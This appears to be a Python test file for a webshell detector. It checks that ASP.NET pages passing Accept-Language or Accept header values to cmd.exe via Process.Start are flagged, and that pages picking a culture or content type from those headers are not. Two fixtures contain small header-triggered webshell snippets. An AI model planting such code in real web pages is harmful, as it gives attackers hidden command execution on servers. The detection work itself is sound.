"""The Accept-Language and Accept headers as HttpRequest parses them (`Request.UserLanguages`,
`Request.AcceptTypes`) are client data, like the user agent: a shell can hide its command there
(docs/detection/webshell-code.md, "Accept headers"). Pages that pick a culture or a format from
them do nothing a finding reports."""

from __future__ import annotations

from code_support import assert_found, cs_page, medium_or_above, run


def page(body: str) -> str:
    return cs_page(body)


def test_language_header_runs_a_command() -> None:
    code = page(
        "string[] langs = Request.UserLanguages;\n"
        'if (langs != null && langs.Length > 1 && langs[0] == "x-q")\n'
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + langs[1]);'
    )
    assert_found("lang.aspx", code, "EXH-WS-CODE-PROCESS", ["Accept-Language value", "Process.Start"])


def test_accept_header_feeds_a_process() -> None:
    code = page(
        "foreach (string t in Request.AcceptTypes)\n"
        '    if (t.StartsWith("x/")) {\n'
        '        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe");\n'
        '        psi.Arguments = "/c " + t.Substring(2);\n'
        "        System.Diagnostics.Process.Start(psi);\n"
        "    }"
    )
    assert_found("accept.aspx", code, "EXH-WS-CODE-PROCESS", ["Accept value"])


def test_culture_and_format_from_the_headers() -> None:
    code = page(
        "if (Request.UserLanguages != null)\n"
        "    System.Threading.Thread.CurrentThread.CurrentUICulture =\n"
        "        new System.Globalization.CultureInfo(Request.UserLanguages[0]);\n"
        'bool json = Array.IndexOf(Request.AcceptTypes ?? new string[0], "application/json") >= 0;\n'
        'Response.ContentType = json ? "application/json" : "text/html";\n'
        'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/langs.log"), Request.UserLanguages[0] + "\\n");'
    )
    report = run("home.aspx", code)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
